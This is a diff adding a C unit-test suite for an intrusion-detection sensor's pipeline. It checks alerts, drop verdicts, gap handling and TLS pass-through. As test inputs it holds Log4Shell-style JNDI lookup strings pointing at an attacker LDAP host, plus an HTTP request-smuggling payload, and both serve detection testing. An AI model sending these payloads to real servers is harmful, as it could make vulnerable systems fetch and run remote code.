@@ -1,0 +1,411 @@
+/* Tests of sensor/app/pipeline: the verbs between streams and events, with real decoders and a real
+ * engine. Streams are played by hand; events are caught before the writer. */
+#include "sensor/app/pipeline.h"
+#include "sensor/base/bytes.h"
+#include "sensor/base/mem.h"
+#include "sensor/output/writer.h"
+#include "tests/unit/runner.h"
+
+#include <stdio.h>
+#include <string.h>
+
+/* --- what catches the events -------------------------------------------------------------------
+ */
+
+struct sink {
+    char text[256 * 1024];
+    size_t len;
+};
+
+static struct sink caught;
+
+static int catch_open(const char *target, struct sink **ret_sink, struct errbuf *err)
+{
+    (void)target;
+    (void)err;
+    caught.len = 0;
+    *ret_sink = &caught;
+    return 0;
+}
+
+static int catch_write(struct sink *s, struct span lines, size_t n_lines, size_t *ret_n_lost)
+{
+    (void)n_lines;
+    (void)ret_n_lost;
+    CU_ASSERT_FATAL(lines.len < sizeof(s->text) - s->len);
+    bytes_copy(s->text + s->len, lines.data, lines.len);
+    s->len += lines.len;
+    return 0;
+}
+
+static int catch_flush(struct sink *s)
+{
+    (void)s;
+    return 0;
+}
+
+static int catch_reopen(struct sink *s, struct errbuf *err)
+{
+    (void)s;
+    (void)err;
+    return 0;
+}
+
+static void catch_close(struct sink **s)
+{
+    *s = NULL;
+}
+
+static const struct sink_ops sink_catch = {
+    .name = "catch",
+    .open = catch_open,
+    .write = catch_write,
+    .flush = catch_flush,
+    .reopen = catch_reopen,
+    .close = catch_close,
+};
+
+/* --- the scene -----------------------------------------------------------------------------------
+ */
+
+enum { SECOND = 1000000 };
+
+struct scene {
+    struct engine *engine;
+    struct writer *writer;
+    struct client_policy *clients;
+    struct stats stats;
+    struct report report;
+    struct pipeline *pipeline;
+    struct stream_user user;
+    struct conn conn;
+    struct sighting sightings[8];
+    size_t n_sightings;
+};
+
+static void on_sighting(void *ctx, const struct sighting *sighting)
+{
+    struct scene *s = ctx;
+    if (s->n_sightings < ARRAY_LEN(s->sightings)) {
+        s->sightings[s->n_sightings++] = *sighting;
+    }
+}
+
+static const char rules[] =
+    "alert tcp any any -> any any (msg:\"attack\"; jndi.class:attack; flow:to_server; sid:1;)\n"
+    "alert tcp any any -> any any (msg:\"answer\"; jndi.class:attack; flow:to_client; sid:2;)\n";
+static const char drop_rules[] =
+    "drop tcp any any -> any any (msg:\"attack\"; jndi.class:attack; sid:1;)\n";
+
+static void open_conn(struct scene *s, unsigned marks)
+{
+    s->conn = (struct conn){.id = 4711, .proto = IP_PROTO_TCP, .port = {40000, 80}, .marks = marks};
+    CU_ASSERT_FATAL(addr_parse(SPAN("192.0.2.4"), &s->conn.addr[TO_SERVER]));
+    CU_ASSERT_FATAL(addr_parse(SPAN("198.51.100.7"), &s->conn.addr[TO_CLIENT]));
+    s->conn.start_us = s->conn.last_us = s->conn.clock_us = 1000 * (uint64_t)SECOND;
+    CU_ASSERT_EQUAL(s->user.ops->open(s->user.ctx, &s->conn), 0);
+}
+
+static void begin(struct scene *s, const char *rule_text)
+{
+    struct errbuf err = {0};
+    struct engine_text text = {"test.rules", span_str(rule_text)};
+    struct engine_options options = {.texts = &text, .n_texts = 1};
+    struct writer_options writer = {.n_producers = 1, .queue = 64};
+    *s = (struct scene){0};
+    CU_ASSERT_EQUAL_FATAL(engine_new(&options, &s->engine, &err), 0);
+    CU_ASSERT_EQUAL_FATAL(writer_new(&writer, &s->writer), 0);
+    CU_ASSERT_EQUAL_FATAL(writer_add_sink(s->writer, &sink_catch, "x", ~0u, &err), 0);
+    CU_ASSERT_EQUAL_FATAL(
+        client_policy_new(&(struct config_list){0}, &(struct config_list){0}, &s->clients, &err),
+        0);
+    s->report = (struct report){
+        .eve = eve_new(&(struct eve_options){.host = "", .line_bytes = 16384}),
+        .geo = geo_cache_new(NULL, &s->stats),
+        .clients = s->clients,
+        .writer = s->writer,
+        .types = ~0u,
+        .stats = &s->stats,
+    };
+    struct pipeline_options p = {
+        .report = s->report,
+        .engine = s->engine,
+        .detect = detect_limits_default(),
+        .limits = {.line_bytes = 4096,
+                   .head_bytes = 16384,
+                   .inflate_bytes = 1 << 20,
+                   .inflate_ratio = 1000,
+                   .encoding_depth = 4,
+                   .mime_depth = 8,
+                   .open_tx = 16},
+        .kept_field_bytes = 1024,
+        .kept_tx_bytes = 65536,
+        .sightings = {on_sighting, s},
+    };
+    s->pipeline = pipeline_new(&p);
+    CU_ASSERT_PTR_NOT_NULL_FATAL(s->pipeline);
+    s->user = pipeline_user(s->pipeline);
+    open_conn(s, 0);
+}
+
+static void give(struct scene *s, enum direction dir, const char *text)
+{
+    s->user.ops->data(s->user.ctx, &s->conn, dir, span_str(text));
+}
+
+static void pass(struct scene *s, uint64_t us)
+{
+    s->conn.clock_us += us;
+    s->conn.last_us += us;
+    pipeline_advance(s->pipeline, s->conn.clock_us);
+    writer_advance(s->writer, 0, s->conn.clock_us);
+    writer_flush(s->writer);
+}
+
+static size_t count(const char *what)
+{
+    size_t n = 0;
+    size_t at = 0;
+    struct span all = span_of(caught.text, caught.len);
+    while ((at = span_find(all, at, span_str(what))) != SPAN_NONE) {
+        n++;
+        at++;
+    }
+    return n;
+}
+
+static void end(struct scene *s)
+{
+    struct writer_stats written;
+    s->user.ops->close(s->user.ctx, &s->conn, CLOSE_FIN);
+    pipeline_free(&s->pipeline);
+    writer_free(&s->writer, &written);
+    eve_free(&s->report.eve);
+    geo_cache_free(&s->report.geo);
+    client_policy_free(&s->clients);
+    engine_unref(&s->engine);
+}
+
+#define ALERT      "\"event_type\":\"alert\""
+#define ATTACK     "${jndi:ldap://203.0.113.9/a}"
+#define GET(agent) "GET /x HTTP/1.1\r\nHost: a.example\r\nUser-Agent: " agent "\r\n\r\n"
+
+/* --- region, field, finding
+ * ------------------------------------------------------------------------ */
+
+static void a_finding_is_made_when_its_field_is_complete(void)
+{
+    struct scene s;
+    begin(&s, drop_rules);
+    give(&s, TO_SERVER, "GET /x HTTP/1.1\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n");
+    CU_ASSERT_EQUAL(s.conn.verdict, VERDICT_PASS);
+    give(&s, TO_SERVER, "Host: a.example\r\n\r\n");
+    CU_ASSERT_EQUAL(s.conn.verdict, VERDICT_DROP); /* before any answer, before any event */
+    CU_ASSERT_EQUAL(caught.len, 0);
+    end(&s);
+    CU_ASSERT_EQUAL(count(ALERT), 1);
+    CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
+}
+
+static void an_alert_waits_for_the_answer_but_not_for_ever(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER, GET(ATTACK));
+    pass(&s, SECOND / 2);
+    CU_ASSERT_EQUAL(count(ALERT), 0);
+    give(&s, TO_CLIENT, "HTTP/1.1 204 No Content\r\n\r\n");
+    pass(&s, 1);
+    CU_ASSERT_EQUAL(count(ALERT), 1);
+    CU_ASSERT_EQUAL(count("\"status\":204"), 2); /* in the alert and in the http event */
+    give(&s, TO_SERVER, GET(ATTACK));
+    pass(&s, SECOND + 1);
+    pass(&s, 1);
+    CU_ASSERT_EQUAL(count(ALERT), 2); /* no answer came */
+    end(&s);
+    CU_ASSERT_EQUAL(count(ALERT), 2);
+}
+
+static void a_body_in_pieces_is_looked_at_as_one(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER, "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 32\r\n\r\n q=${jn");
+    give(&s, TO_SERVER, "di:ldap://203.0.113.9/x} ");
+    end(&s);
+    CU_ASSERT_EQUAL(count(ALERT), 1);
+}
+
+/* --- gap
+ * --------------------------------------------------------------------------------------------- */
+
+static void bytes_around_a_gap_are_never_joined(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER, "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 41\r\n\r\n q=${jn");
+    s.user.ops->gap(s.user.ctx, &s.conn, TO_SERVER, 10, LOST_GAP);
+    give(&s, TO_SERVER, "di:ldap://203.0.113.9/x}");
+    end(&s);
+    CU_ASSERT_EQUAL(count("\"class\":\"attack\""), 0);
+    CU_ASSERT_EQUAL(count("\"event_type\":\"http\""), 1);
+}
+
+static void after_a_gap_the_next_request_is_found(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER, "GET /one HTTP/1.1\r\nHos");
+    s.user.ops->gap(s.user.ctx, &s.conn, TO_SERVER, 100, LOST_GAP);
+    give(&s, TO_SERVER, "xx\r\n\r\n");
+    give(&s, TO_SERVER, GET(ATTACK));
+    end(&s);
+    CU_ASSERT_EQUAL(count(ALERT), 1);
+}
+
+/* --- alternate reading
+ * ------------------------------------------------------------------------------- */
+
+static void both_readings_of_an_overlap_are_looked_at(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER, GET("harmless"));
+    s.user.ops->alternate(s.user.ctx, &s.conn, TO_SERVER, span_str(GET(ATTACK)));
+    end(&s);
+    CU_ASSERT(count(ALERT) >= 1);
+    CU_ASSERT_EQUAL(count("\"event_type\":\"http\""), 1); /* a reading is no request of its own */
+}
+
+static void what_both_readings_hold_is_told_once(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER, GET(ATTACK));
+    s.user.ops->alternate(s.user.ctx, &s.conn, TO_SERVER, span_str(GET(ATTACK)));
+    end(&s);
+    CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
+}
+
+/* Transfer-Encoding is the main reading; who goes by Content-Length sees a second request. */
+static void two_lengths_are_read_both_ways(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER,
+         "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"
+         "60\r\n\r\n"
+         "GET /smuggled HTTP/1.1\r\nHost: a\r\nUser-Agent: ${jndi:ldap://203.0.113.9/a}\r\n\r\n");
+    end(&s);
+    CU_ASSERT(count("\"class\":\"attack\"") >= 1);
+    CU_ASSERT_EQUAL(count("http_conflicting_length"), 1);
+}
+
+/* --- sighting, verdict, stream
+ * ----------------------------------------------------------------------- */
+
+static void sightings_tell_the_flow_and_the_attempt(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER, GET("${jndi:ldap://203.0.113.9:1389/a}"));
+    CU_ASSERT_EQUAL_FATAL(s.n_sightings, 2);
+    CU_ASSERT_EQUAL(s.sightings[0].kind, SIGHTING_FLOW_OPEN);
+    CU_ASSERT_EQUAL(s.sightings[0].port, 80);
+    CU_ASSERT_EQUAL(s.sightings[1].kind, SIGHTING_ATTEMPT);
+    CU_ASSERT_STRING_EQUAL(s.sightings[1].name, "203.0.113.9");
+    CU_ASSERT_EQUAL(s.sightings[1].port, 1389);
+    CU_ASSERT(s.sightings[1].attack_id != 0);
+    CU_ASSERT_EQUAL(s.sightings[1].clock_us, s.conn.clock_us);
+    end(&s);
+}
+
+static void tls_is_told_and_passed_over(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    s.user.ops->data(s.user.ctx, &s.conn, TO_SERVER,
+                     SPAN("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"));
+    CU_ASSERT(s.conn.opaque);
+    CU_ASSERT_EQUAL(s.conn.opaque_reason, LOST_TLS);
+    end(&s);
+    CU_ASSERT_EQUAL(count("\"app_proto\":\"tls\""), 1);
+    CU_ASSERT_EQUAL(count("\"bytes_not_inspected_tls\":11"), 1);
+}
+
+static void an_unknown_protocol_hides_nothing(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    give(&s, TO_SERVER, "\x10\x02 login ${jndi:ld");
+    give(&s, TO_SERVER, "ap://203.0.113.9/a} \x01\x02");
+    end(&s);
+    CU_ASSERT_EQUAL(count(ALERT), 1);
+    CU_ASSERT_EQUAL(count("\"field\":\"tcp.payload\""), 1);
+}
+
+static void the_contents_decide_who_is_the_server(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    s.user.ops->close(s.user.ctx, &s.conn, CLOSE_FIN);
+    open_conn(&s, CONN_MIDSTREAM);
+    give(&s, TO_SERVER, "rest of something\r\n");
+    give(&s, TO_SERVER, GET(ATTACK));
+    end(&s);
+    CU_ASSERT_EQUAL(count(ALERT), 1);
+    CU_ASSERT_EQUAL(count("\"midstream\""), 3); /* in alert, http and flow */
+}
+
+static void a_first_line_in_single_bytes_is_still_recognised(void)
+{
+    struct scene s;
+    begin(&s, rules);
+    const char *text = GET(ATTACK);
+    for (size_t i = 0; text[i] != '\0'; i++) {
+        s.user.ops->data(s.user.ctx, &s.conn, TO_SERVER, span_of(text + i, 1));
+    }
+    end(&s);
+    CU_ASSERT_EQUAL(count("\"field\":\"http.user_agent\""), 1);
+}
+
+/* Every allocation fails once: nothing leaks, nothing crashes, every event is whole or not there.
+ */
+static void an_empty_heap_costs_events_only(void)
+{
+    for (size_t n = 1; n < 60; n++) {
+        struct scene s;
+        begin(&s, rules);
+        mem_fail_at(n, 0);
+        give(&s, TO_SERVER, GET(ATTACK));
+        give(&s, TO_CLIENT, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
+        mem_fail_at(0, 0);
+        end(&s);
+    }
+}
+
+static CU_TestInfo tests[] = {
+    {"a_finding_is_made_when_its_field_is_complete", a_finding_is_made_when_its_field_is_complete},
+    {"an_alert_waits_for_the_answer_but_not_for_ever",
+     an_alert_waits_for_the_answer_but_not_for_ever},
+    {"a_body_in_pieces_is_looked_at_as_one", a_body_in_pieces_is_looked_at_as_one},
+    {"bytes_around_a_gap_are_never_joined", bytes_around_a_gap_are_never_joined},
+    {"after_a_gap_the_next_request_is_found", after_a_gap_the_next_request_is_found},
+    {"both_readings_of_an_overlap_are_looked_at", both_readings_of_an_overlap_are_looked_at},
+    {"what_both_readings_hold_is_told_once", what_both_readings_hold_is_told_once},
+    {"two_lengths_are_read_both_ways", two_lengths_are_read_both_ways},
+    {"sightings_tell_the_flow_and_the_attempt", sightings_tell_the_flow_and_the_attempt},
+    {"tls_is_told_and_passed_over", tls_is_told_and_passed_over},
+    {"an_unknown_protocol_hides_nothing", an_unknown_protocol_hides_nothing},
+    {"the_contents_decide_who_is_the_server", the_contents_decide_who_is_the_server},
+    {"a_first_line_in_single_bytes_is_still_recognised",
+     a_first_line_in_single_bytes_is_still_recognised},
+    {"an_empty_heap_costs_events_only", an_empty_heap_costs_events_only},
+    CU_TEST_INFO_NULL,
+};
+
+int main(void)
+{
+    CU_SuiteInfo suites[] = {{"pipeline", NULL, NULL, NULL, NULL, tests}, CU_SUITE_INFO_NULL};
+    return run_suites(suites);
+}
